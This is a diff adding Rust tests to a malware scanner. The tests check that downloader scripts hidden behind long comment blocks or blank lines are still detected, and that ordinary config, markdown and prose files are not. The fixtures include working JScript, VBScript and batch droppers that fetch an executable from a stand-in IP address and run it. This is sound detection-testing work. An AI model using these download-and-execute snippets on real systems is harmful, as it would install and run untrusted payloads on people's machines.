@@ -136,3 +136,114 @@ fn user_rules_can_condition_on_the_type() {
     let r = e.scan_bytes("a.ps1", b"Write-Host hi".to_vec());
     assert!(!r.matched("Text_Only") && r.matched("Scripts_Only"));
 }
+
+/// `n` lines of a comment in the style `line` makes of each number.
+fn lines(n: usize, line: impl Fn(usize) -> String) -> String {
+    (0..n).map(line).collect()
+}
+
+#[test]
+fn a_script_behind_4_kib_of_comments_is_matched_under_any_name() {
+    let js = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://203.0.113.7/a', false);\n\
+        x.send(); var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody);\n\
+        s.saveToFile('a.exe', 2); new ActiveXObject('WScript.Shell').run('a.exe');\n";
+    let vbs = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\n\
+        o.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
+        s.Write o.responseBody\r\ns.SaveToFile \"p.exe\", 2\r\n";
+    let bat = "@echo off\r\nbitsadmin /transfer job http://203.0.113.7/p.exe %TEMP%\\p.exe\r\n";
+    let note = |i| format!("note {i} on how the deployment tool is configured and run\n");
+    let cases: Vec<(&str, String, &str)> = vec![
+        (
+            "# lines",
+            lines(120, |i| format!("# {}", note(i))) + CRADLE,
+            "PowerShell_Download_Cradle",
+        ),
+        (
+            "<# #>",
+            format!("<#\n{}#>\n{CRADLE}", lines(120, note)),
+            "PowerShell_Download_Cradle",
+        ),
+        (
+            "here-string",
+            format!("$help = @'\n{}'@\n{CRADLE}", lines(120, note)),
+            "PowerShell_Download_Cradle",
+        ),
+        (
+            "blank lines",
+            "\n".repeat(6000) + CRADLE,
+            "PowerShell_Download_Cradle",
+        ),
+        (
+            "// lines",
+            lines(120, |i| format!("// {}", note(i))) + js,
+            "JScript_Downloader",
+        ),
+        (
+            "/* */",
+            format!("/*\n{}*/\n{js}", lines(120, note)),
+            "JScript_Downloader",
+        ),
+        (
+            "' lines",
+            lines(120, |i| format!("' {}", note(i))) + vbs,
+            "VBS_Downloader",
+        ),
+        (
+            "Rem lines",
+            lines(120, |i| format!("Rem {}", note(i))) + vbs,
+            "VBS_Downloader",
+        ),
+        (
+            ":: lines",
+            lines(120, |i| format!(":: {}", note(i))) + bat,
+            "Batch_Dropper",
+        ),
+    ];
+    for (how, script, rule) in cases {
+        assert!(script.len() > 5000, "{how}");
+        let r = scan("notes.txt", script.into_bytes());
+        assert!(rule_matched(&r, rule), "{how}: {:?}", keys(&r));
+        assert_ne!(r.verdict, Verdict::Clean, "{how}");
+    }
+}
+
+#[test]
+fn text_behind_comments_is_still_text() {
+    // A configuration file with a long commented header, then settings.
+    let conf = lines(150, |i| {
+        format!("# option {i}: what it does, and its default value\n")
+    }) + "Port 22\nPermitRootLogin no\nPasswordAuthentication no\nSubsystem sftp internal-sftp\n";
+    assert_clean(&scan("sshd_config", conf.into_bytes()));
+    // Markdown whose headings start lines with `#`, then the how-to.
+    let md = lines(80, |i| format!("# Section {i}\n\n")) + HOWTO;
+    let r = scan("agent.txt", md.into_bytes());
+    assert!(
+        !rule_matched(&r, "PowerShell_Download_Cradle"),
+        "{:?}",
+        keys(&r)
+    );
+    assert_clean(&r);
+    // Nothing but comments.
+    let only = lines(200, |i| format!("// {i} nothing follows\n"));
+    assert_clean(&scan("empty.js.txt", only.into_bytes()));
+}
+
+#[test]
+fn a_wsh_downloader_without_dim_or_sub_is_a_script_by_content() {
+    let vbs = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\n\
+        o.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
+        s.Write o.responseBody\r\ns.SaveToFile \"p.exe\", 2\r\n\
+        CreateObject(\"WScript.Shell\").Run \"p.exe\"\r\n";
+    let r = scan("readme.txt", vbs.as_bytes().to_vec());
+    assert!(rule_matched(&r, "VBS_Downloader"), "{:?}", keys(&r));
+    let js = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://203.0.113.7/a', false);\n\
+        x.send(); var s = new ActiveXObject('ADODB.Stream');\n";
+    let r = scan("readme.txt", js.as_bytes().to_vec());
+    assert!(rule_matched(&r, "JScript_Downloader"), "{:?}", keys(&r));
+    // Control: prose that names the same objects.
+    let prose = "Why our old installer was flagged\n\n\
+        The old installer used CreateObject with MSXML2.XMLHTTP to fetch the update and then\n\
+        saved it with ADODB.Stream before it ran the file through WScript.Shell on every machine.\n\
+        We replaced all of that with the signed package that the software center hands out now.\n";
+    assert_clean(&scan("postmortem.txt", prose.as_bytes().to_vec()));
+}
